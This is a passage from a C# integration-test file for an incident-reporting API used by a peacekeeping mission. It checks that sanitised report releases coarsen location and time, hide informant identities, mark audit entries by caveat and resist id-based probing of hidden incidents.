        // The release waits for the gate while an analyst's status change (judged on the CONFIDENTIAL report) commits.
        var gate = server.Services.GetRequiredService<Incidents.IncidentGate>();
        Task<(HttpResponseMessage Response, JsonElement Body)> released;
        using (await gate.EnterAsync(CancellationToken.None))
        {
            released = server.ClientFor("unpoladmin").PostJson($"/api/reports/{Id(original)}/releases", release);
            await Task.Delay(1000);
            await server.WithDbAsync(async db =>
            {
                var stored = await db.Incidents.SingleAsync(i => i.Id == incident);
                stored.Status = Incidents.IncidentStatus.Verified;
                stored.StatusChangedAt = stored.UpdatedAt = DateTime.UtcNow;
                return await db.SaveChangesAsync();
            });
        }

        var (created, _) = await released;
        Assert.Equal(HttpStatusCode.Created, created.StatusCode);
        var (_, seen) = await server.ClientFor("pref").GetJson($"/api/incidents/{incident}");
        Assert.Equal("reported", seen.GetProperty("status").GetString());
        var (_, full) = await server.ClientFor("joc").GetJson($"/api/incidents/{incident}");
        Assert.Equal("verified", full.GetProperty("status").GetString());
    }

    [Fact]
    public async Task An_agreement_revised_while_it_was_being_retired_is_not_retired_behind_the_new_version()
    {
        var code = "MOU" + Guid.NewGuid().ToString("N")[..6].ToUpperInvariant();
        var admin = server.ClientFor("unpoladmin");
        Assert.Equal(HttpStatusCode.Created, (await admin.PostJson("/api/agreements", new
        {
            code,
            name = "Agreement " + code,
            parties = new[] { "UNPOL" },
            rules = new[] { new { reporter = "org:UNPOL", category = "poc", marking = Api.Marking("CONFIDENTIAL", []), tlp = "amber" } },
        })).Response.StatusCode);

        // Version 2 commits after the retirement read version 1 and before it is stored: the store's writer (SQLite) or the
        // audit chain's lock (PostgreSQL), which every administrative change takes, is held while the retirement waits.
        HttpResponseMessage retired = null!;
        await server.WithDbAsync(async db =>
        {
            await using var transaction = await db.Database.BeginTransactionAsync();
            if (!db.Database.IsSqlite())
            {
                await db.Database.ExecuteSqlRawAsync("SELECT pg_advisory_xact_lock(4242002)");
            }
            else
            {
                // A write takes SQLite's lock now, not at the insert below.
                await db.Database.ExecuteSqlRawAsync("UPDATE agreements SET name = name WHERE 0");
            }

            var retiring = admin.DeleteAsync($"/api/agreements/{code}");
            await Task.Delay(2000);
            var first = await db.Agreements.AsNoTracking().SingleAsync(a => a.Code == code);
            db.Agreements.Add(new Sharing.Agreement
            {
                Id = first.Id,
                Version = 2,
                Code = code,
                Name = first.Name,
                Parties = first.Parties,
                RulesJson = first.RulesJson,
                CoordinationJson = first.CoordinationJson,
                CreatedAt = DateTime.UtcNow,
                CreatedBy = "unpoladmin",
            });
            await db.SaveChangesAsync();
            await transaction.CommitAsync();
            retired = await retiring;
            return 0;
        });

        Assert.Equal(HttpStatusCode.Conflict, retired.StatusCode);
        var versions = await server.WithDbAsync(db => db.Agreements.AsNoTracking().Where(a => a.Code == code).OrderBy(a => a.Version).Select(a => a.RetiredAt).ToListAsync());
        Assert.Equal([null, null], versions);
        Assert.Equal(HttpStatusCode.NoContent, (await admin.DeleteAsync($"/api/agreements/{code}")).StatusCode);
    }

    [Fact]
    public async Task A_release_keeps_the_originals_TLP_unless_the_releaser_gives_another()
    {
        var (_, original) = await server.ClientFor("unpol").PostJson("/api/reports", Api.Fields(Api.Report(marking: Api.Marking("CONFIDENTIAL", ["org:JOC"])), tlp: "red"));
        var path = $"/api/reports/{Id(original)}/releases";
        var (_, kept) = await server.ClientFor("unpoladmin").PostJson(path, new { marking = Api.Marking("UNCLASSIFIED", ["org:JOC"]), narrative = "Clash reported.", reason = "For the JOC's brief" });
        var (_, given) = await server.ClientFor("unpoladmin").PostJson(path, new { marking = Api.Marking("UNCLASSIFIED", ["org:JOC"]), tlp = "amber", narrative = "Clash reported.", reason = "For the JOC's brief" });

        Assert.Equal("TLP:RED", kept.GetProperty("tlp").GetString());
        Assert.Equal("TLP:AMBER", given.GetProperty("tlp").GetString());
    }

    [Fact]
    public async Task A_release_sent_again_is_the_copy_already_made()
    {
        // A double click, or a resend after the answer was lost on a weak link: one copy, not two in the incident.
        var (_, original) = await server.ClientFor("unpol").PostJson("/api/reports", Api.Report(marking: Api.Marking("CONFIDENTIAL", ["org:JOC"])));
        var path = $"/api/reports/{Id(original)}/releases";
        var release = new { marking = Api.Marking("UNCLASSIFIED", ["org:JOC"]), narrative = "Clash reported.", reason = "For the JOC's brief" };
        var sends = await Task.WhenAll(Enumerable.Range(0, 2).Select(_ => server.ClientFor("unpoladmin").PostJson(path, release)));
        var (again, againCopy) = await server.ClientFor("unpoladmin").PostJson(path, release);
        // A different release (another narrative) of the same report is a copy of its own.
        var (other, otherCopy) = await server.ClientFor("unpoladmin").PostJson(path, release with { narrative = "Clash reported near the market." });

        Assert.Equal([HttpStatusCode.OK, HttpStatusCode.Created], sends.Select(s => s.Item1.StatusCode).Order());
        Assert.Equal(HttpStatusCode.OK, again.StatusCode);
        Assert.Single(sends.Select(s => Id(s.Item2)).Append(Id(againCopy)).Distinct());
        Assert.Equal(HttpStatusCode.Created, other.StatusCode);
        Assert.NotEqual(Id(againCopy), Id(otherCopy));
        Assert.Equal(2, await server.WithDbAsync(db => db.Reports.CountAsync(r => r.ReleasedFrom == Id(original))));
        var (_, incident) = await server.ClientFor("joc").GetJson($"/api/incidents/{Id(original, "incidentId")}");
        Assert.Equal(3, incident.GetProperty("reportCount").GetInt32());
    }

    [Fact]
    public async Task A_release_of_a_report_in_a_closed_incident_shows_it_closed_to_those_who_see_only_the_copy()
    {
        // Closed by the JOC on a report only the JOC and UNPOL may read, then released to the whole mission.
        var (_, original) = await server.ClientFor("unpol").PostJson("/api/reports", Api.Report(marking: Api.Marking("CONFIDENTIAL", ["org:JOC", "org:UNPOL"])));
        var closedId = Id(original, "incidentId");
        Assert.Equal(HttpStatusCode.OK, (await server.ClientFor("joc").PostJson($"/api/incidents/{closedId}/status", new { status = "closed" })).Response.StatusCode);
        var path = $"/api/reports/{Id(original)}/releases";
        var release = new { marking = Api.Marking("UNCLASSIFIED", ["mission"]), narrative = "Incident reported in the sector.", reason = "For the mission's record" };
        var (created, copy) = await server.ClientFor("unpoladmin").PostJson(path, release);
        Assert.Equal(HttpStatusCode.Created, created.StatusCode);
        var (again, againCopy) = await server.ClientFor("unpoladmin").PostJson(path, release);
        Assert.Equal(HttpStatusCode.OK, again.StatusCode);
        Assert.Equal(Id(copy), Id(againCopy));
        Assert.Equal(closedId, Id(copy, "incidentId"));

        // A FORCE analyst, who sees only the copy, sees the incident closed: moving it on without saying so is refused,
        // and the incident the JOC closed stays closed (one incident, not a second one routed and counted again).
        var (_, seen) = await server.ClientFor("force").GetJson($"/api/incidents/{closedId}");
        Assert.Equal("closed", seen.GetProperty("status").GetString());
        Assert.Equal(HttpStatusCode.Conflict, (await server.ClientFor("force").PostJson($"/api/incidents/{closedId}/status", new { status = "verified" })).Response.StatusCode);
        var (_, closed) = await server.ClientFor("joc").GetJson($"/api/incidents/{closedId}");
        Assert.Equal("closed", closed.GetProperty("status").GetString());
        Assert.Equal(2, closed.GetProperty("reportCount").GetInt32());
    }

    [Fact]
    public async Task A_release_may_coarsen_the_time_as_it_coarsens_the_place()
    {
        // The copy kept the original's time to the second: with category and figures, enough to match it to other reporting.
        var observed = new DateTimeOffset(2026, 11, 19, 21, 17, 43, TimeSpan.Zero); // a Thursday
        var (_, original) = await server.ClientFor("unpol").PostJson("/api/reports", Api.Report(marking: Api.Marking("CONFIDENTIAL", ["org:JOC", "org:UNPOL"]), observedAt: observed));
        var path = $"/api/reports/{Id(original)}/releases";
        async Task<JsonElement> Released(string? precision)
        {
            var (created, copy) = await server.ClientFor("unpoladmin").PostJson(path, new
            {
                marking = Api.Marking("UNCLASSIFIED", ["mission"]),
                narrative = "Clash reported in the sector " + precision,
                reason = "For partners' planning",
                timePrecision = precision,
            });
            Assert.True(created.StatusCode == HttpStatusCode.Created, copy.ToString());
            return copy;
        }

        var byDay = await Released("day");
        var byWeek = await Released("week");
        var kept = await Released(null);
        var (refused, problem) = await server.ClientFor("unpoladmin").PostJson(path, new
        {
            marking = Api.Marking("UNCLASSIFIED", ["mission"]),
            narrative = "Clash reported.",
            reason = "For partners",
            timePrecision = "minute",
        });

        Assert.Equal((new DateTimeOffset(2026, 11, 19, 0, 0, 0, TimeSpan.Zero), "day"), (byDay.GetProperty("observedAt").GetDateTimeOffset(), byDay.GetProperty("observedPrecision").GetString()));
        Assert.Equal((new DateTimeOffset(2026, 11, 16, 0, 0, 0, TimeSpan.Zero), "week"), (byWeek.GetProperty("observedAt").GetDateTimeOffset(), byWeek.GetProperty("observedPrecision").GetString()));
        Assert.Equal(observed, kept.GetProperty("observedAt").GetDateTimeOffset());
        Assert.Equal(HttpStatusCode.BadRequest, refused.StatusCode);
        Assert.Equal(["timePrecision"], problem.ErrorFields());
    }

    [Theory]
    [InlineData("day", "day", "2026-11-19T00:00:00Z", "day")]
    [InlineData("month", "day", "2026-11-01T00:00:00Z", "month")]
    [InlineData("days", "day", "2026-11-19T00:00:00Z", "days")]
    [InlineData("year", "week", "2026-01-01T00:00:00Z", "year")]
    public async Task A_release_that_coarsens_the_time_coarsens_it_whatever_the_original_said(string originalPrecision, string asked, string expected, string precision)
    {
        // Intake keeps a time as it was sent: a report "of the day" may carry its time to the second. The copy kept that
        // second whenever the original's precision was already as coarse as the one asked for.
        var observed = new DateTimeOffset(2026, 11, 19, 21, 17, 43, TimeSpan.Zero);
        var (_, original) = await server.ClientFor("unpol").PostJson("/api/reports",
            new Dictionary<string, object?>(Api.Fields(Api.Report(marking: Api.Marking("CONFIDENTIAL", ["org:JOC", "org:UNPOL"]), observedAt: observed))) { ["observedPrecision"] = originalPrecision });
        var (created, copy) = await server.ClientFor("unpoladmin").PostJson($"/api/reports/{Id(original)}/releases", new
        {
            marking = Api.Marking("UNCLASSIFIED", ["mission"]),
            narrative = "Clash reported in the sector.",
            reason = "For partners' planning",
            timePrecision = asked,
        });

        Assert.True(created.StatusCode == HttpStatusCode.Created, copy.ToString());
        Assert.Equal((DateTimeOffset.Parse(expected, System.Globalization.CultureInfo.InvariantCulture), precision),
            (copy.GetProperty("observedAt").GetDateTimeOffset(), copy.GetProperty("observedPrecision").GetString()));
    }

    [Theory]
    [InlineData("2026-11-30T08:00:00Z", "week", "month", "2026-01-01T00:00:00Z", "year")]
    [InlineData("2026-11-28T08:00:00Z", "days", "week", "2026-01-01T00:00:00Z", "year")]
    [InlineData("2026-11-01T08:00:00Z", "week", "month", "2026-01-01T00:00:00Z", "year")]
    [InlineData("2026-11-05T08:00:00Z", "week", "month", "2026-11-01T00:00:00Z", "month")]
    [InlineData("2026-11-17T08:00:00Z", "days", "week", "2026-11-16T00:00:00Z", "week")]
    [InlineData("2026-11-19T08:00:00Z", "days", "week", "2026-11-01T00:00:00Z", "month")]
    [InlineData("2025-12-30T08:00:00Z", "days", "month", null, null)]
    [InlineData("2026-11-26T08:00:00Z", "days", "month", "2026-01-01T00:00:00Z", "year")]
    [InlineData("2025-02-24T08:00:00Z", "week", "month", "2025-01-01T00:00:00Z", "year")]
    [InlineData("2025-12-27T08:00:00Z", "days", "week", null, null)]
    [InlineData("2026-11-18T00:00:00Z", "week", "week", "2026-11-01T00:00:00Z", "month")]
    public async Task A_released_time_holds_the_whole_of_the_originals(string observed, string originalPrecision, string asked, string? expected, string? precision)
    {
        // The week of Monday 30 November released "by month" was dated November: four of its days, in December, were
        // outside the copy's time, and partners counted the event in the wrong month. The next unit that holds it is used
        // (the week of Sunday 1 November starts in October); a period running into another year cannot be held.
        var (_, original) = await server.ClientFor("unpol").PostJson("/api/reports",
            new Dictionary<string, object?>(Api.Fields(Api.Report(marking: Api.Marking("CONFIDENTIAL", ["org:JOC", "org:UNPOL"]),
                observedAt: DateTimeOffset.Parse(observed, System.Globalization.CultureInfo.InvariantCulture))))
            { ["observedPrecision"] = originalPrecision });
        var (answer, copy) = await server.ClientFor("unpoladmin").PostJson($"/api/reports/{Id(original)}/releases", new
        {
            marking = Api.Marking("UNCLASSIFIED", ["mission"]),
            narrative = "Clash reported in the sector.",
            reason = "For partners' planning",
            timePrecision = asked,
        });

        if (expected is null)
        {
            Assert.True(answer.StatusCode == HttpStatusCode.BadRequest, copy.ToString());
            Assert.Equal(["timePrecision"], copy.ErrorFields());
            Assert.Contains($"({observed[..10]} to ", copy.GetProperty("errors").GetProperty("timePrecision")[0].GetString(), StringComparison.Ordinal);
            Assert.Contains(") runs into another year", copy.GetProperty("errors").GetProperty("timePrecision")[0].GetString(), StringComparison.Ordinal);
            return;
        }

        Assert.True(answer.StatusCode == HttpStatusCode.Created, copy.ToString());
        Assert.Equal((DateTimeOffset.Parse(expected, System.Globalization.CultureInfo.InvariantCulture), precision),
            (copy.GetProperty("observedAt").GetDateTimeOffset(), copy.GetProperty("observedPrecision").GetString()));
    }

    [Fact]
    public async Task A_copy_is_in_the_language_its_releaser_wrote_not_the_originals()
    {
        // The copy kept the original's language (an informant's Sango) under the releaser's English narrative: mislabelled,
        // and telling the copy's readers what the source reported in; the release body could not say otherwise.
        var (_, original) = await server.ClientFor("unpol").PostJson("/api/reports",
            new Dictionary<string, object?>(Api.Fields(Api.Report(marking: Api.Marking("CONFIDENTIAL", ["org:JOC", "org:UNPOL"])))) { ["language"] = "sg" });
        Assert.Equal("sg", original.GetProperty("language").GetString());
        var path = $"/api/reports/{Id(original)}/releases";
        var (_, english) = await server.ClientFor("unpoladmin").PostJson(path, new { marking = Api.Marking("UNCLASSIFIED", ["mission"]), narrative = "Clash reported in the sector.", reason = "For partners" });
        var (_, french) = await server.ClientFor("unpoladmin").PostJson(path, new { marking = Api.Marking("UNCLASSIFIED", ["mission"]), narrative = "Affrontement signalé dans le secteur.", reason = "Pour les partenaires", language = "fr" });
        var (refused, problem) = await server.ClientFor("unpoladmin").PostJson(path, new { marking = Api.Marking("UNCLASSIFIED", ["mission"]), narrative = "Clash.", reason = "For partners", language = "fr\n" });

        Assert.Equal("en", english.GetProperty("language").GetString());
        Assert.Equal("fr", french.GetProperty("language").GetString());
        Assert.Equal(HttpStatusCode.BadRequest, refused.StatusCode);
        Assert.Equal(["language"], problem.ErrorFields());
    }

    [Fact]
    public async Task A_refused_community_is_quoted_by_its_start_without_control_characters()
    {
        // The refusal repeated the whole value (a 5,000-character token, twice: in errors and detail) with its control
        // characters, where every other refused value is quoted by its first 40 characters.
        var (_, original) = await server.ClientFor("unpol").PostJson("/api/reports", Api.Report(marking: Api.Marking("CONFIDENTIAL", ["org:JOC", "org:UNPOL"])));
        foreach (var token in new[] { "x\u0007" + new string('y', 5000), "kind:" + new string('k', 5000) + "\u001b", "nation:\u0007" + new string('n', 5000) })
        {
            var (report, reportProblem) = await server.ClientFor("unpol").PostJson("/api/reports", Api.Report(marking: Api.Marking("UNCLASSIFIED", [token])));
            var (release, releaseProblem) = await server.ClientFor("unpoladmin").PostJson($"/api/reports/{Id(original)}/releases",
                new { marking = Api.Marking("UNCLASSIFIED", [token]), narrative = "Clash reported.", reason = "For partners" });

            foreach (var (response, problem) in new[] { (report, reportProblem), (release, releaseProblem) })
            {
                Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
                var said = problem.GetProperty("errors").GetProperty("marking.releasableTo")[0].GetString()!;
                Assert.True(said.Length < 200, $"{said.Length} characters");
                Assert.DoesNotContain(said, char.IsControl);
                Assert.True(problem.GetProperty("detail").GetString()!.Length < 400);
            }
        }
    }

    [Fact]
    public async Task A_classified_release_sent_again_is_audited_as_a_read_of_the_copy_it_answers_with()
    {
        // The 200 of a release sent again hands back the copy made by the first: a read, as for a report sent again.
        var (_, original) = await server.ClientFor("unpol").PostJson("/api/reports", Api.Report(marking: Api.Marking("CONFIDENTIAL", ["org:JOC", "org:UNPOL"])));
        var path = $"/api/reports/{Id(original)}/releases";
        var release = new { marking = Api.Marking("CONFIDENTIAL", ["org:JOC", "org:UNPOL"]), narrative = "Clash reported in the sector.", reason = "For the JOC's brief" };
        var (first, copy) = await server.ClientFor("unpoladmin").PostJson(path, release);
        var (again, _) = await server.ClientFor("unpoladmin").PostJson(path, release);

        Assert.Equal((HttpStatusCode.Created, HttpStatusCode.OK), (first.StatusCode, again.StatusCode));
        var reads = await server.WithDbAsync(db => db.Audit.AsNoTracking().Where(a => a.Action == AuditActions.Read && a.Actor == "unpoladmin" && a.Entity == "report").ToListAsync());
        Assert.Contains(reads, a => a.Detail.Contains(Id(copy).ToString(), StringComparison.OrdinalIgnoreCase) && a.Detail.Contains("/releases", StringComparison.Ordinal));
    }

    [Fact]
    public async Task The_read_a_release_sent_again_is_audited_as_is_marked_as_the_original_it_names_too()
    {
        // The entry's path names the original (…/reports/{original}/releases) and the answer gives its id as releasedFrom:
        // marked as the copy alone, an auditor cleared for the copy only would learn of a higher-marked original.
        var (_, original) = await server.ClientFor("unpol").PostJson("/api/reports", Api.Report(marking: Api.Marking("CONFIDENTIAL", ["org:UNPOL"], ["SOURCE-PROTECTED"])));
        var path = $"/api/reports/{Id(original)}/releases";
        var release = new { marking = Api.Marking("CONFIDENTIAL", ["org:JOC", "org:UNPOL"]), narrative = "Clash reported in the sector.", reason = "Tearline for the JOC" };
        var (first, copy) = await server.ClientFor("unpoladmin").PostJson(path, release);
        var (again, _) = await server.ClientFor("unpoladmin").PostJson(path, release);

        Assert.Equal((HttpStatusCode.Created, HttpStatusCode.OK), (first.StatusCode, again.StatusCode));
        var read = await server.WithDbAsync(db => db.Audit.AsNoTracking()
            .SingleAsync(a => a.Action == AuditActions.Read && a.Actor == "unpoladmin" && a.Detail.Contains(Id(original).ToString())));
        Assert.Contains(Id(copy).ToString(), read.Detail, StringComparison.OrdinalIgnoreCase);
        var originalCaveats = await server.WithDbAsync(db => db.Reports.Where(r => r.Id == Id(original)).Select(r => r.Caveats).SingleAsync());
        Assert.NotEqual(0, originalCaveats);
        Assert.Equal(originalCaveats, read.Caveats & originalCaveats);
    }

    [Fact]
    public async Task A_release_is_audited_as_marked_as_its_copy_when_the_copy_is_marked_higher()
    {
        // The entry names the copy and its marking: an auditor without the copy's caveat must not read it (it was marked as
        // the original only, which has no caveat).
        var (_, original) = await server.ClientFor("unpol").PostJson("/api/reports", Api.Report(marking: Api.Marking("CONFIDENTIAL", ["org:JOC"])));
        var (created, copy) = await server.ClientFor("unpoladmin").PostJson($"/api/reports/{Id(original)}/releases",
            new { marking = Api.Marking("CONFIDENTIAL", ["org:JOC"], ["SOURCE-PROTECTED"]), narrative = "Clash reported.", reason = "Source to be protected" });
        Assert.Equal(HttpStatusCode.Created, created.StatusCode);
        var copyCaveats = await server.WithDbAsync(db => db.Reports.Where(r => r.Id == Id(copy)).Select(r => r.Caveats).SingleAsync());
        Assert.NotEqual(0, copyCaveats);
        var entry = await server.WithDbAsync(db => db.Audit.SingleAsync(a => a.Action == AuditActions.Release && a.EntityId == Id(original)));
        Assert.Equal(copyCaveats, entry.Caveats & copyCaveats);
    }

    [Fact]
    public async Task A_releaser_publishes_a_sanitised_copy_and_the_original_stays_untouched()
    {
        var (_, original) = await server.ClientFor("unpol").PostJson("/api/reports", Api.Report(latitude: 5.7612, longitude: 20.6724,
            marking: Api.Marking("CONFIDENTIAL", ["org:JOC"], ["SOURCE-PROTECTED"]),
            source: new { reliability = "B", credibility = 2, description = "Informant network", protectedIdentity = "Informant K-17" }));
        var path = $"/api/reports/{Id(original)}/releases";
        var release = new
        {
            marking = Api.Marking("UNCLASSIFIED", ["mission"]),
            tlp = "green",
            gridDegrees = 0.5,
            narrative = "Armed clash reported in the Bambari area.",
            reason = "Needed by humanitarian partners for access planning",
        };

        var (byReporter, _) = await server.ClientFor("unpol").PostJson(path, release);
        var (byOtherOrganisation, _) = await server.ClientFor("jocadmin").PostJson(path, release);
        var (withoutReason, problem) = await server.ClientFor("unpoladmin").PostJson(path, release with { reason = "" });
        var (_, typo) = await server.ClientFor("unpoladmin").PostJson(path, release with { marking = Api.Marking("UNCLASSIFIED", ["group:PWGG"]) });
        var (created, copy) = await server.ClientFor("unpoladmin").PostJson(path, release);

        Assert.Equal(HttpStatusCode.Forbidden, byReporter.StatusCode);
        Assert.Equal(HttpStatusCode.Forbidden, byOtherOrganisation.StatusCode);
        Assert.Equal(["reason"], problem.ErrorFields());
        Assert.Equal(["marking.releasableTo"], typo.ErrorFields());
        Assert.Equal(HttpStatusCode.Created, created.StatusCode);
        Assert.Equal(Id(original), copy.GetProperty("releasedFrom").GetGuid());
        Assert.Equal(5.75, copy.GetProperty("location").GetProperty("latitude").GetDouble(), 6);
        Assert.Equal(20.75, copy.GetProperty("location").GetProperty("longitude").GetDouble(), 6);
        Assert.True(copy.GetProperty("location").GetProperty("precisionMeters").GetDouble() > 39_000);
        Assert.False(copy.GetProperty("source").TryGetProperty("protectedIdentity", out _));
        Assert.DoesNotContain("Informant", copy.ToString());
        // The original's actors may name what the narrative was rewritten to hide: the copy has only those the releaser gives.
        Assert.Empty(copy.GetProperty("actors").EnumerateArray());
        var (_, named) = await server.ClientFor("unpoladmin").PostJson(path, new { release.marking, release.tlp, release.gridDegrees, release.narrative, release.reason, actors = new[] { "Armed group" } });
        Assert.Equal(["Armed group"], named.GetProperty("actors").EnumerateArray().Select(a => a.GetString()));
        var (_, tooMany) = await server.ClientFor("unpoladmin").PostJson(path, new { release.marking, release.tlp, release.gridDegrees, release.narrative, release.reason, actors = new[] { "a|b" } });
        Assert.Equal(["actors"], tooMany.ErrorFields());
        // NUL is the character PostgreSQL cannot store: a release's actors are held to text as a report's are.
        var (nul, nulProblem) = await server.ClientFor("unpoladmin").PostJson(path, new { release.marking, release.tlp, release.gridDegrees, release.narrative, release.reason, actors = new[] { "Armed\0group" } });
        Assert.Equal(HttpStatusCode.BadRequest, nul.StatusCode);
        Assert.Equal(["actors"], nulProblem.ErrorFields());

        var prefCopy = await server.ClientFor("pref").GetAsync($"/api/reports/{Id(copy)}");
        var prefOriginal = await server.ClientFor("pref").GetAsync($"/api/reports/{Id(original)}");
        var (_, incident) = await server.ClientFor("pref").GetJson($"/api/incidents/{Id(original, "incidentId")}");
        var (_, stillOriginal) = await server.ClientFor("unpol").GetJson($"/api/reports/{Id(original)}");
        Assert.Equal(HttpStatusCode.OK, prefCopy.StatusCode);
        Assert.Equal(HttpStatusCode.NotFound, prefOriginal.StatusCode);
        // The copy names its original only to those who may read it: to pref its id would name a record pref may not see.
        var prefCopyBody = await prefCopy.Content.ReadFromJsonAsync<JsonElement>();
        Assert.False(prefCopyBody.TryGetProperty("releasedFrom", out var from) && from.ValueKind != JsonValueKind.Null, prefCopyBody.ToString());
        // Nor why it was released: the releaser's words are about the original. Nor does its source say it is a release.
        Assert.False(prefCopyBody.TryGetProperty("releaseReason", out _), prefCopyBody.ToString());
        Assert.False(prefCopyBody.GetProperty("source").TryGetProperty("description", out var description) && description.ValueKind != JsonValueKind.Null, prefCopyBody.ToString());
        Assert.DoesNotContain("sanitised", prefCopyBody.ToString(), StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain(Id(original).ToString(), incident.ToString(), StringComparison.OrdinalIgnoreCase);
        var (_, prefList) = await server.ClientFor("pref").GetJson("/api/reports?q=Bambari%20area&limit=1000");
        Assert.DoesNotContain(Id(original).ToString(), prefList.ToString(), StringComparison.OrdinalIgnoreCase);
        var (_, jocCopy) = await server.ClientFor("joc").GetJson($"/api/reports/{Id(copy)}");
        Assert.Equal(Id(original), jocCopy.GetProperty("releasedFrom").GetGuid());
        Assert.Equal("Needed by humanitarian partners for access planning", jocCopy.GetProperty("releaseReason").GetString());
        Assert.Equal(new[] { Id(copy), Id(named) }.Order(), incident.GetProperty("reports").EnumerateArray().Select(r => Id(r)).Order());
        Assert.Equal(5.7612, stillOriginal.GetProperty("location").GetProperty("latitude").GetDouble());
        Assert.Equal("Informant K-17", stillOriginal.GetProperty("source").GetProperty("protectedIdentity").GetString());
        var audit = await server.WithDbAsync(db => db.Audit.Where(a => a.Action == AuditActions.Release && a.EntityId == Id(original)).ToListAsync());
        // The reason is the releaser's words: the entry gives their length (auditors read the log mission-wide).
        Assert.All(audit, a => Assert.Contains("\"reason\":\"51 characters\"", a.Detail, StringComparison.Ordinal));
        Assert.All(audit, a => Assert.DoesNotContain("access planning", a.Detail, StringComparison.Ordinal));
        Assert.Equal(2, audit.Count);
    }

    [Fact]
    public async Task Reads_of_unclassified_records_under_a_caveat_are_audited_and_plain_ones_are_not()
    {
        // A humanitarian site marked for deconfliction only: unclassified, but who read it is what OCHA will ask.
        var (_, site) = await server.ClientFor("ocha").PostJson("/api/reports", Api.Report(narrative: "Clinic compound, deconfliction only",
            marking: Api.Marking("UNCLASSIFIED", ["org:OCHA", "org:JOC"], ["DECONFLICTION-ONLY"])));
        var (_, plain) = await server.ClientFor("ocha").PostJson("/api/reports", Api.Report(narrative: "Market day, open", marking: Api.Marking("UNCLASSIFIED", ["mission"])));
        Assert.Equal(HttpStatusCode.OK, (await server.ClientFor("joc").GetAsync($"/api/reports/{Id(site)}")).StatusCode);
        Assert.Equal(HttpStatusCode.OK, (await server.ClientFor("joc").GetAsync($"/api/reports/{Id(plain)}")).StatusCode);
        Assert.Equal(HttpStatusCode.OK, (await server.ClientFor("joc").GetAsync($"/api/incidents/{Id(site, "incidentId")}")).StatusCode);

        var (_, siteLog) = await server.ClientFor("jocadmin").GetJson($"/api/audit?record={Id(site)}");
        var reads = siteLog.GetProperty("items").EnumerateArray().Where(e => e.GetProperty("action").GetString() == "read").ToList();
        Assert.Contains(reads, e => e.GetProperty("actor").GetString() == "joc" && e.GetProperty("entity").GetString() == "report");
        var (_, incidentLog) = await server.ClientFor("jocadmin").GetJson($"/api/audit?record={Id(site, "incidentId")}");
        Assert.Contains(incidentLog.GetProperty("items").EnumerateArray(), e => e.GetProperty("action").GetString() == "read" && e.GetProperty("actor").GetString() == "joc");
        var (_, plainLog) = await server.ClientFor("jocadmin").GetJson($"/api/audit?record={Id(plain)}");
        Assert.DoesNotContain(plainLog.GetProperty("items").EnumerateArray(), e => e.GetProperty("action").GetString() == "read");

        // Another auditor who looked the record up under another spelling of its id (upper case, without dashes) is found by
        // a later search for it: the watchers are watched whatever they type.
        var auditor = "aud" + Guid.NewGuid().ToString("N")[..8];
        var (made, _) = await (await server.SignedInAsync("jocadmin")).PostJson("/api/organizations/JOC/members",
            new { userName = auditor, password = TestServer.Password, roles = new[] { "auditor" }, clearance = "CONFIDENTIAL", caveats = new[] { "DECONFLICTION-ONLY" } });
        Assert.Equal(HttpStatusCode.Created, made.StatusCode);
        using var other = await server.SignedInAsync(auditor);
        Assert.Equal(HttpStatusCode.OK, (await other.GetAsync($"/api/audit?record={Id(site).ToString("N").ToUpperInvariant()}")).StatusCode);
        var (_, watched) = await server.ClientFor("jocadmin").GetJson($"/api/audit?record={Id(site)}");
        Assert.Contains(watched.GetProperty("items").EnumerateArray(), e => e.GetProperty("actor").GetString() == auditor && e.GetProperty("entity").GetString() == "audit");
    }

    [Fact]
    public async Task A_report_given_the_id_of_a_hidden_incident_does_not_open_that_incidents_changes()
    {
        // Report ids are their clients' choice; the feed judged visibility by id alone, so a report made with the id of an
        // incident one may not see showed that incident's status changes.
        var (_, hidden) = await server.ClientFor("force").PostJson("/api/reports", Api.Report(narrative: "Force-only sighting", marking: Api.Marking("CONFIDENTIAL", ["org:FORCE"])));
        var incident = Id(hidden, "incidentId");
        var (verified, _) = await server.ClientFor("force").PostJson($"/api/incidents/{incident}/status", new { status = "verified" });
        Assert.Equal(HttpStatusCode.OK, verified.StatusCode);
        var (created, _) = await server.ClientFor("unpol").PostJson("/api/reports", Api.Report(id: incident, narrative: "Probe", marking: Api.Marking("UNCLASSIFIED", ["org:UNPOL"])));
        Assert.Equal(HttpStatusCode.Created, created.StatusCode);

        using var unpol = server.ClientFor("unpol");
        Assert.Equal(["created"], await unpol.ChangesOfAsync(incident));
        using var force = server.ClientFor("force");
        Assert.Contains("updated", await force.ChangesOfAsync(incident));
    }

    [Fact]
    public async Task An_auditor_sees_no_entry_about_records_under_a_caveat_they_do_not_hold()
    {
        // An auditor of the JOC cleared to the top but not for DECONFLICTION-ONLY: who made, read or listed the
        // humanitarian sites under that caveat is not theirs to learn, while the reads of other records in the same
        // answer stay in their view.
        var auditorName = "aud" + Guid.NewGuid().ToString("N")[..8];
        var (added, _) = await (await server.SignedInAsync("jocadmin")).PostJson("/api/organizations/JOC/members",
            new { userName = auditorName, password = "auditor-password-1", clearance = "STRICTLY CONFIDENTIAL", caveats = new[] { "SOURCE-PROTECTED" }, roles = new[] { "auditor" } });
        Assert.Equal(HttpStatusCode.Created, added.StatusCode);
        server.Services.GetRequiredService<Accounts.SignInThrottle>().Clear();
        var auditor = new HttpClient(new HttpClientHandler { CookieContainer = new System.Net.CookieContainer() }) { BaseAddress = server.BaseAddress };
        (await auditor.PostJson("/api/auth/signin", new { userName = auditorName, password = "auditor-password-1" })).Response.EnsureSuccessStatusCode();

        var word = "Caveataudit" + Guid.NewGuid().ToString("N")[..8];
        var (_, site) = await server.ClientFor("ocha").PostJson("/api/reports", Api.Report(narrative: word + " clinic compound",
            marking: Api.Marking("UNCLASSIFIED", ["org:OCHA", "org:JOC"], ["DECONFLICTION-ONLY"])));
        var (_, convoy) = await server.ClientFor("ocha").PostJson("/api/reports", Api.Report(narrative: word + " convoy route",
            marking: Api.Marking("CONFIDENTIAL", ["org:OCHA", "org:JOC"])));
        var (listed, list) = await server.ClientFor("joc").GetJson($"/api/reports?q={word}");
        Assert.Equal(HttpStatusCode.OK, listed.StatusCode);
        Assert.Equal(2, list.GetProperty("items").GetArrayLength());
        Assert.Equal(HttpStatusCode.OK, (await server.ClientFor("joc").GetAsync($"/api/reports/{Id(site)}")).StatusCode);

        var (_, full) = await server.ClientFor("jocadmin").GetJson($"/api/audit?record={Id(site)}");
